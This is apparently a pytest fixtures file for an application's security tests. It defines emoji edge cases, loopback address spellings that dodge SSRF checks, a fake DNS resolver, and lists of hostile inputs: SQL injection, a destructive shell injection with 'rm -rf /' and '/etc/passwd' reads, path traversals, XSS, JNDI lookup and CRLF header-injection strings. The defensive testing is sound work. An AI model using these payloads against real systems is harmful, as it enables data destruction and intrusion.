"""Hostile inputs shared by the security tests: addresses in the spellings that slip past
text checks, emoji sequences whole and broken, and a stand-in for DNS (which cannot run
here) to point names anywhere."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import Any

import pytest

# Every kind of emoji sequence, and the debris of broken ones: what captions, cards and
# thumbnails must draw or drop, never show as boxes.
EMOJI_SEQUENCES = [
    "👨‍👩‍👧‍👦",  # ZWJ family
    "👩🏽‍💻",  # skin tone inside a ZWJ sequence
    "👍🏻👍🏼👍🏽👍🏾👍🏿",  # skin tones
    "🇰🇷🇯🇵🇺🇸",  # flags
    "🇿",  # a lone regional indicator
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",  # a tag sequence (Scotland)
    "❤️❤︎☺️",  # emoji and text presentation selectors
    "1️⃣#️⃣*⃣",  # keycaps
    "\u200d\u200d\ufe0f\U0001f3fb\U000e0067",  # stray joiners, selector, modifier, tag
    "👩‍\u200d‍👩",  # doubled joiners
    "\U0001fabf\U0001faff",  # a goose OpenMoji has, and unassigned in the emoji block
]


def loopback_spellings(port: int) -> list[str]:
    """127.0.0.1:`port` in the spellings that slip past checks on the text."""
    return [
        f"http://127.0.0.1:{port}/",
        f"http://2130706433:{port}/",  # decimal
        f"http://0x7f000001:{port}/",  # hex
        f"http://0x7f.1:{port}/",  # mixed
        f"http://127.1:{port}/",  # short
        f"http://[::ffff:127.0.0.1]:{port}/",  # IPv4-mapped IPv6
        f"http://[::ffff:7f00:1]:{port}/",
        f"http://localhost:{port}/",
        f"http://localhost.:{port}/",  # trailing dot
        f"http://LocalHost:{port}/",
        f"http://0.0.0.0:{port}/",  # "this host": loopback on Linux
        f"http://[::]:{port}/",
        f"http://[::1]:{port}/",
    ]


def fake_dns(monkeypatch: pytest.MonkeyPatch, name: str, answers: Iterator[list[str]]) -> list[str]:
    """Make `name` resolve to the next of `answers` at each lookup (DNS cannot run here);
    returns the list of lookups made."""
    real = socket.getaddrinfo
    lookups: list[str] = []

    def resolve(host: str, port: Any, *args: Any) -> Any:
        if host != name:
            return real(host, port, *args)
        if len(args) >= 4 and args[3] & socket.AI_NUMERICHOST:
            raise socket.gaierror(socket.EAI_NONAME, "not numeric")
        lookups.append(host)
        return [info for address in next(answers) for info in real(address, port, *args)]

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    return lookups


# Text that has broken (or would break) something downstream of a text field: the
# database, a shell, a path, a terminal, a page, a caption file, a header. Each is either
# refused naming the field, or stored and shown back as it was sent, harmlessly.
INJECTIONS: dict[str, str] = {
    "sql": "'; DROP TABLE users; --",
    "sql-union": '" OR 1=1 UNION SELECT password_hash FROM users --',
    "shell": "$(rm -rf /) `id` | cat /etc/passwd; echo pwned &",
    "traversal": "../../../../etc/passwd",
    "traversal-windows": "..\\..\\..\\windows\\win.ini",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "ass-override": "{\\an8\\fs200\\c&H0000FF&}big red {\\p1}m 0 0 l 100 0{\\p0}",
    "ass-newline": "first\\Nsecond\\hthird",
    "format-string": "%s%s%n{0}{__class__}${jndi:ldap://x}",
    "rtl-override": "\u202eevil.exe\u202c txt.mp4",
    "zero-width": "a\u200bb\u200dc\ufeffd",
    "emoji-zwj": "👩‍👩‍👧‍👦🏳️‍🌈",
    "astral": "𝕳𝖊𝖑𝖑𝖔 𠜎𠜱𠝹",
    "combining": "Z\u0351\u0307\u0308\u0356\u035c\u0361a\u0300\u0301\u0302" * 5,
    "crlf": "line\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "tab-newline": "a\tb\nc",
    "korean": "노년의 숙면 습관: 잠들기 전 화면을 멀리하기",
}
# Refused with 422 naming the field, wherever text is taken (PostgreSQL cannot store NUL;
# the others would repaint an operator's terminal).
CONTROLS: dict[str, str] = {
    "nul": "nul\x00byte",
    "escape": "\x1b[2J\x1b[31mred",
    "bell-backspace": "a\x07b\x08c",
    "c1-csi": "a\x9b2Jb",
    "del": "a\x7fb",
}
# Path parameters and storage keys that try to leave where they belong.
TRAVERSALS: list[str] = [
    "..",
    "../..",
    "..%2f..%2fautoclip.db",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%00",
    "a%00b",
    "%0d%0aSet-Cookie:%20x=1",
    "....//....//etc/passwd",
    "%c0%ae%c0%ae%c0%af",
    "x" * 5000,
]
